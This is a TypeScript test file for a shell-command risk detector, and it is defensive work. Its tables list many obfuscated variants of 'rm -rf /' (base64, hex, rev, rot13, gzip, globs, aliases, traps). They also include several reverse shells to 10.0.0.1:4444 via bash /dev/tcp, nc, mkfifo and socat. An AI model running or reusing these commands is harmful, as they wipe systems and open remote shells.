import { highIn } from "../support/found";

type Row = readonly [script: string, high: readonly string[]];

const codeInCode: readonly Row[] = [
  ['bash -c "rm -rf /"', ["delete-protected@1"]],
  ["sh -c 'rm -rf /etc'", ["delete-protected@1"]],
  ['echo "rm -rf /" | sh', ["delete-protected@1"]],
  ["echo cm0gLXJmIC8= | base64 -d | bash", ["delete-protected@1"]],
  ["base64 -d <<< cm0gLXJmIC8= | sh", ["delete-protected@1"]],
  ['bash <<< "rm -rf /"', ["delete-protected@1"]],
  ["bash <<EOF\nrm -rf /\nEOF", ["delete-protected@2"]],
  ["cat <<EOF | sh\nrm -rf /usr\nEOF", ["delete-protected@2"]],
  ["cat > /tmp/x.sh <<EOF\nrm -rf /\nEOF\nbash /tmp/x.sh", ["delete-protected@2"]],
  ['echo "rm -rf /" > /tmp/a; chmod +x /tmp/a; /tmp/a', ["delete-protected@1"]],
  ['f(){ rm -rf "$1"; }; f /', ["delete-protected@1"]],
  ['alias x="rm -rf"; x /', ["delete-protected@1"]],
];

const decoding: readonly Row[] = [
  ["xxd -r -p <<< 726d202d7266202f | sh", ["delete-protected@1"]],
  ['printf "\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f" | sh', ["delete-protected@1"]],
  ["echo / fr- mr | rev | sh", ["delete-protected@1"]],
  ['rev <<< "/ fr- mr" | bash', ["delete-protected@1"]],
  [
    'echo "sn -sg /" | tr "a-z" "n-za-m"| sh >/dev/null; echo "ez -es /" | tr a-z n-za-m | sh',
    ["delete-protected@1"],
  ],
  ['set -- rm -rf /; "$@"', ["delete-protected@1"]],
  ['a=(rm -rf /); "${a[@]}"', ["delete-protected@1"]],
  ['c="rm -rf"; $c /', ["delete-protected@1"]],
  ['read -r c <<< "rm -rf /"; $c', ["delete-protected@1"]],
  ['x=$(printf "rm"); $x -rf /', ["delete-protected@1"]],
  ['p=/e; q=tc; rm -rf "$p$q"', ["delete-protected@1"]],
  ["${0%%*}rm -rf /", ["delete-protected@1"]],
  ["$(echo rm) -rf /", ["delete-protected@1"]],
  ["`echo rm` -rf /", ["delete-protected@1"]],
  ["command rm -rf /", ["delete-protected@1"]],
  ["builtin eval rm -rf /", ["delete-protected@1"]],
  ["exec rm -rf /", ["delete-protected@1"]],
  ['trap "rm -rf /" EXIT', ["delete-protected@1"]],
  ["(cd / ; rm -rf *)", ["delete-protected@1"]],
  ["pushd /; rm -rf *", ["delete-protected@1"]],
  ["if true; then rm -rf /; fi", ["delete-protected@1"]],
  ["[ -d /x ] && rm -rf /", ["delete-protected@1"]],
  ["false || rm -rf /", ["delete-protected@1"]],
  ["case x in x) rm -rf /;; esac", ["delete-protected@1"]],
  ['declare -A m=([k]="rm -rf /"); ${m[k]}', ["delete-protected@1"]],
  ['s="xrm -rf /x"; ${s:1:8}', ["delete-protected@1"]],
  ["echo cm0gLXJmIC8K | openssl base64 -d | sh", ["delete-protected@1"]],
  [
    "echo H4sIAAAAAAAAAytKUNAvSlPQBwD8AAAA | base64 -d | gunzip | sh; rm -rf /",
    ["delete-protected@1"],
  ],
  ["/???/r? -rf /", ["delete-protected@1"]],
  ["/bin/r[m] -rf /", ["delete-protected@1"]],
  ['rm -rf "${EMPTY}"/', ["delete-maybe-empty@1"]],
  ['rm -rf -- "$(undefined_cmd)"/*', ["delete-maybe-empty@1"]],
];

const interpreters: readonly Row[] = [
  ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", ["remote-shell@1"]],
  ["nc -e /bin/sh 10.0.0.1 4444", ["remote-shell@1"]],
  [
    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
    ["remote-shell@1"],
  ],
  [
    "exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
    ["run-download@1"],
  ],
  ["socat TCP:10.0.0.1:4444 EXEC:/bin/bash", ["remote-shell@1"]],
  ["perl -e 'system(\"rm -rf /\")'", ["delete-protected@1"]],
  ["perl -e 'unlink glob(\"/etc/*\")'", ["delete-protected@1"]],
  ["ruby -e 'system(\"rm -rf /\")'", ["delete-protected@1"]],
  ['node -e \'require("child_process").execSync("rm -rf /")\'', ["delete-protected@1"]],
  ["php -r 'system(\"rm -rf /\");'", ["delete-protected@1"]],
  ["awk 'BEGIN{system(\"rm -rf /\")}'", ["delete-protected@1"]],
];

describe("code in arguments, pipes, here-documents, files and functions", () => {
  it.each(codeInCode)("%j", async (script, expected) => {
    expect(await highIn("SHELL", script)).toEqual(expected);
  });
});

describe("code that is decoded, and values that are put together", () => {
  it.each(decoding)("%j", async (script, expected) => {
    expect(await highIn("SHELL", script)).toEqual(expected);
  });
});

describe("shells for somebody elsewhere, and commands of other languages", () => {
  it.each(interpreters)("%j", async (script, expected) => {
    expect(await highIn("SHELL", script)).toEqual(expected);
  });
});
